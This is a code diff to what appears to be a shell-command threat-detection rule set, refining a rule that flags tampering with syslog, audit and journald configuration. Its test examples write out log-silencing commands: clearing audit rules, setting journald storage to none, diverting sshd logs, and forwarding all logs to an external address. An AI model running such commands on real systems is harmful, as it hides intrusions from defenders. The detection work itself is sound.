@@ -4,7 +4,7 @@ import { canonicalPath, classifyPath, containerLog, SOURCE_FILE } from '../knowl
 import { classifyHost, hostsEntries } from '../knowledge/hosts.js';
 import { baseName } from '../shell/names.js';
 import { containerVerbAt, copyOperands, editsInPlace, ghApiCall, optionValue, protectionRecreated, socatListensOnLoopback } from '../shell/command-args.js';
-import { sedSubstitutions } from '../shell/sed-script.js';
+import { readSedScript, sedScripts, sedSubstitutions } from '../shell/sed-script.js';
 import { NETCATS, isFetcher, isInterpreter, isShell } from './command_and_control.js';
 import { hiddenInTemp, inTemp, isStagingPath, isTestData } from '../knowledge/paths.js';
 import { assignments, removedFiles, writes } from './persistence.js';
@@ -75,12 +75,8 @@ const JOURNAL_LIMIT = /^(?:System|Runtime)(?:MaxUse|KeepFree|MaxFileSize)=(?:\d+
 /** A sed substitution that only sets journald's limits (`SystemMaxUse=2G`): freeing disk by capping the journal is upkeep, not silencing it. */
 function resizesJournal(c: SimpleCommand): boolean {
   if (c.name !== 'sed') return false;
-  const substitution = (e: string) => (e[0] === 's' && e.length > 3 ? e.split(e[1]!) : []);
-  const scripts = c.argv.slice(1).filter((a, k) => c.argv[k] === '-e' || (!a.startsWith('-') && substitution(a).length === 4));
-  return scripts.length > 0 && scripts.every((e) => {
-    const parts = substitution(e);
-    return parts.length === 4 && /^[gI]*$/.test(parts[3]!) && JOURNAL_LIMIT.test(parts[2]!);
-  });
+  const scripts = sedScripts(c.argv).scripts.map(readSedScript);
+  return scripts.length > 0 && scripts.every((s) => s.others === 0 && s.substitutions.length > 0 && s.substitutions.every((x) => /^[gI]*$/.test(x.flags) && JOURNAL_LIMIT.test(x.to)));
 }
 /** A journald file or drop-in written with nothing but a section header and its limits (`[Journal]\nSystemMaxUse=1G`). */
 function journalLimitsWritten(i: AnalysisInput, canonical: string): boolean {
@@ -88,8 +84,50 @@ function journalLimitsWritten(i: AnalysisInput, canonical: string): boolean {
   if (!w) return false;
   const lines = w.text.slice(0, 4096).split('\n').map((l) => l.trim()).filter((l) => l !== '' && !l.startsWith('#'));
   if (/^\/etc\/systemd\/journald\.conf/.test(canonical)) return lines.every((l) => l === '[Journal]' || JOURNAL_LIMIT.test(l));
+  if (/^\/etc\/rsyslog\.d\/[^/]+\.conf$/.test(canonical)) return w.cmd?.name !== 'sed' && rsyslogRoutesOnly(lines);
   // audit rules that only add watches and syscall rules, or lock the configuration (`-e 2`), record more, not less
   return /^\/etc\/audit\/(?:rules\.d\/[^/]+\.rules|audit\.rules)$/.test(canonical) && w.cmd !== undefined && w.cmd.name !== 'sed' && lines.length > 0 && lines.every((l) => AUDIT_RULE_ADDED.test(l));
+}
+/**
+ * rsyslog lines that only add where messages go: directives, modules and templates; a selector or an application's
+ * own messages sent to a file under /var/log or to a collector that is not a drop; and `& stop` right after such an
+ * application route, which keeps its lines out of the main log. Nothing of a security program is stopped.
+ */
+function rsyslogRoutesOnly(lines: string[]): boolean {
+  let routedProgram = false;
+  for (const line of lines.slice(0, 256)) {
+    if (/^&\s*(?:stop|~)$/.test(line)) {
+      if (!routedProgram) return false;
+      routedProgram = false;
+      continue;
+    }
+    const program = RSYSLOG_PROGRAM_ROUTE.exec(line);
+    routedProgram = program !== null && !SECURITY_LOG_PROGRAMS.test(program[1] ?? program[2]!) && rsyslogTargetKept(program[3]!);
+    if (routedProgram) continue;
+    const selector = RSYSLOG_SELECTOR_ROUTE.exec(line);
+    if (selector && rsyslogTargetKept(selector[1]!)) continue;
+    if (!RSYSLOG_SETUP.test(line)) return false;
+  }
+  return true;
+}
+/** `if $programname == 'app' then TARGET`, `:programname, isequal, "app", TARGET` */
+const RSYSLOG_PROGRAM_ROUTE = /^(?:if\s+\$programname\s*==\s*['"]([\w.-]{1,64})['"]\s+then|:programname\s*,\s*isequal\s*,\s*"([\w.-]{1,64})"\s*,)\s*(\S{1,256})$/;
+/** `local0.* TARGET`, `*.*;auth,authpriv.none TARGET` */
+const RSYSLOG_SELECTOR_ROUTE = /^[\w*]{1,16}\.[\w*!=]{1,16}(?:[,;][\w*]{1,16}(?:\.[\w*!=]{1,16})?){0,16}\s+(\S{1,256})$/;
+/** `$ModLoad imfile`, `$WorkDirectory /var/spool/rsyslog`, `module(load="imfile")`, `$template …`, `template(…)`, `input(type="imfile" …)` */
+const RSYSLOG_SETUP = /^(?:\$\w{1,64}\s+[^\n]{1,256}|(?:module|template|input)\([^\n]{0,512}\)|\$template\s[^\n]{1,512})$/;
+/** Messages of logins, privilege and the audit trail: routing them away is silencing them. */
+const SECURITY_LOG_PROGRAMS = /^(?:sshd|sudo|su|login|auditd?|audisp\w*|kernel|systemd-logind|polkitd?|pam\w*|useradd|usermod|passwd|cron|crond|wazuh\w*|ossec\w*|falco\w*|osquery\w*)$/;
+/**
+ * A file under /var/log, or a collector on the company's own network: a private address or name, or one named as
+ * internal (`@@logs.internal.acme.com:6514`, `@10.0.0.5`). Any other collector is a copy of every log going out.
+ */
+function rsyslogTargetKept(target: string): boolean {
+  if (/^-?\/var\/log\/[\w./-]{1,200}$/.test(target)) return true;
+  const m = /^@@?(?:\(o\))?\[?([\w.:-]{1,253}?)\]?(?::\d{1,5})?(?:;[\w-]{1,64})?$/.exec(target);
+  if (!m) return false;
+  const kind = classifyHost(m[1]!);
+  return kind === 'private' || kind === 'loopback' || (kind === 'other' && m[1]!.split('.').some((l) => l === 'internal' || l === 'intranet' || l === 'corp'));
 }
 /** An audit rule line that adds recording: a watch, an `always` syscall rule, a larger buffer, failure mode, or the lock. */
 const AUDIT_RULE_ADDED = /^(?:-w\s+\/\S+(?:\s+-p\s+[rwxa]{1,4})?(?:\s+-k\s+[\w-]{1,64})?|-a\s+(?:always,exit|exit,always|always,task|task,always)\b[^\n]{0,400}|-b\s+\d{1,8}|-f\s+[12]|-e\s+[12]|--backlog_wait_time\s+\d{1,8}|--loginuid-immutable)$/;
@@ -403,7 +441,9 @@ const findsLogs = (c: SimpleCommand, isLog: (p: string) => boolean) => {
 };
 
 /** Directories under /var/log whose files are evidence: the system's, the audit trail's, and web and access servers'. */
-const EVIDENCE_LOG_DIRS = new Set(['audit', 'journal', 'nginx', 'apache2', 'httpd', 'sssd', 'samba', 'openvpn', 'secure', 'sudo', 'sudo-io', 'fail2ban', 'ufw', 'firewalld', 'auth', 'syslog', 'rsyslog', 'sshd', 'haproxy', 'squid', 'caddy', 'traefik', 'installer', 'sa', 'atop', 'wtmp', 'lastlog', 'falco', 'osquery', 'wazuh', 'crowdstrike']);
+const EVIDENCE_LOG_DIRS = new Set(['audit', 'journal', 'nginx', 'apache2', 'httpd', 'sssd', 'samba', 'openvpn', 'secure', 'sudo', 'sudo-io', 'fail2ban', 'ufw', 'firewalld', 'auth', 'syslog', 'rsyslog', 'sshd', 'haproxy', 'squid', 'caddy', 'traefik', 'installer', 'sa', 'atop', 'wtmp', 'lastlog', 'falco', 'osquery', 'wazuh', 'crowdstrike',
+  // a cluster's scheduler and its authentication: who ran which job, where
+  'slurm', 'slurmctld', 'slurmdbd', 'munge', 'pbs']);
 /**
  * `/var/log/myapp/debug.log`: one named file of an application's own log directory, which its owners empty to
  * free space; not when a directory on the way is an evidence one or the file is an audit log
@@ -1070,7 +1110,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-EVADE-019', name: 'tampers-with-logging-config', score: 70, tactic: 'defense_evasion', technique: 'T1562.006',
     message: 'Edits the syslog, audit or journald configuration', why: 'Commenting out log forwarding or setting journald storage to none silences the host without stopping a service.',
     check: (i) => i.facts.files.filter((f) => f.cmd && ['write', 'append', 'edit', 'delete'].includes(f.access) && LOGGING_CONFIG.test(f.canonical) && f.cmd.name !== 'mkdir' && !resizesJournal(f.cmd) && !journalLimitsWritten(i, f.canonical)).map((f) => `${f.cmd!.name} ${f.path}`),
-    examples: { fire: [`echo '-D' | sudo tee /etc/audit/rules.d/audit.rules`, `echo '-a never,exit -F arch=b64 -S execve' | sudo tee /etc/audit/rules.d/00-quiet.rules`, "printf '[Journal]\\nStorage=none\\n' | sudo tee /etc/systemd/journald.conf.d/quiet.conf", "printf '[Journal]\\nSystemMaxUse=1K\\n' | sudo tee /etc/systemd/journald.conf.d/size.conf", "sudo sed -i 's/^#\\?SystemMaxUse=.*/SystemMaxUse=1K/' /etc/systemd/journald.conf", "sudo sed -i 's/^#\\?Storage=.*/Storage=none/' /etc/systemd/journald.conf", 'sudo rm -f /etc/kubernetes/audit-policy.yaml', "sudo sed -i 's/^\\*\\.\\*.*@@logs.corp.internal/#&/' /etc/rsyslog.conf && sudo systemctl restart rsyslog", "echo 'Storage=none' | sudo tee -a /etc/systemd/journald.conf", 'sudo rm /etc/audit/rules.d/audit.rules'], quiet: [`echo '-w /etc/passwd -p wa -k identity' | sudo tee -a /etc/audit/rules.d/identity.rules && sudo augenrules --load`, `echo '-e 2' | sudo tee /etc/audit/rules.d/99-finalize.rules`, "sudo mkdir -p /etc/systemd/journald.conf.d && printf '[Journal]\\nSystemMaxUse=1G\\n' | sudo tee /etc/systemd/journald.conf.d/size.conf", "sudo sed -i 's/^#\\?SystemMaxUse=.*/SystemMaxUse=2G/' /etc/systemd/journald.conf && sudo systemctl restart systemd-journald", 'cat /etc/rsyslog.conf', 'sudo journalctl -u app -n 100', 'grep -r forward /etc/rsyslog.d/'] },
+    examples: { fire: ["printf 'if $programname == \"sshd\" then /var/log/app/x.log\\n& stop\\n' | sudo tee /etc/rsyslog.d/30-app.conf", "echo '*.* @@203.0.113.77:6514' | sudo tee /etc/rsyslog.d/00-remote.conf", `echo '-D' | sudo tee /etc/audit/rules.d/audit.rules`, `echo '-a never,exit -F arch=b64 -S execve' | sudo tee /etc/audit/rules.d/00-quiet.rules`, "printf '[Journal]\\nStorage=none\\n' | sudo tee /etc/systemd/journald.conf.d/quiet.conf", "printf '[Journal]\\nSystemMaxUse=1K\\n' | sudo tee /etc/systemd/journald.conf.d/size.conf", "sudo sed -i 's/^#\\?SystemMaxUse=.*/SystemMaxUse=1K/' /etc/systemd/journald.conf", "sudo sed -i 's/^#\\?Storage=.*/Storage=none/' /etc/systemd/journald.conf", 'sudo rm -f /etc/kubernetes/audit-policy.yaml', "sudo sed -i 's/^\\*\\.\\*.*@@logs.corp.internal/#&/' /etc/rsyslog.conf && sudo systemctl restart rsyslog", "echo 'Storage=none' | sudo tee -a /etc/systemd/journald.conf", 'sudo rm /etc/audit/rules.d/audit.rules'], quiet: ["printf 'if $programname == \"app\" then /var/log/app/app.log\\n& stop\\n' | sudo tee /etc/rsyslog.d/30-app.conf && sudo systemctl restart rsyslog", "printf '*.* @@logs.internal.acme.com:6514\\n' | sudo tee /etc/rsyslog.d/90-central.conf", `echo '-w /etc/passwd -p wa -k identity' | sudo tee -a /etc/audit/rules.d/identity.rules && sudo augenrules --load`, `echo '-e 2' | sudo tee /etc/audit/rules.d/99-finalize.rules`, "sudo mkdir -p /etc/systemd/journald.conf.d && printf '[Journal]\\nSystemMaxUse=1G\\n' | sudo tee /etc/systemd/journald.conf.d/size.conf", "sudo sed -i 's/^#\\?SystemMaxUse=.*/SystemMaxUse=2G/' /etc/systemd/journald.conf && sudo systemctl restart systemd-journald", 'cat /etc/rsyslog.conf', 'sudo journalctl -u app -n 100', 'grep -r forward /etc/rsyslog.d/'] },
   },
   {
     id: 'PX-EVADE-020', name: 'disables-tls-verification-everywhere', score: 55, tactic: 'defense_evasion', technique: 'T1553',
